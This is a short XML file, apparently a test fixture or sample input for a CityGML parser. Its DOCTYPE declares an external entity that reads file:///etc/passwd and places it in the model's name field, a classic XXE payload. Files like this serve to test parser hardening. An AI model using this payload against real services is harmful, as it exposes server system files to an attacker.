<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<core:CityModel xmlns:core="http://www.opengis.net/citygml/1.0"><core:name>&xxe;</core:name></core:CityModel>
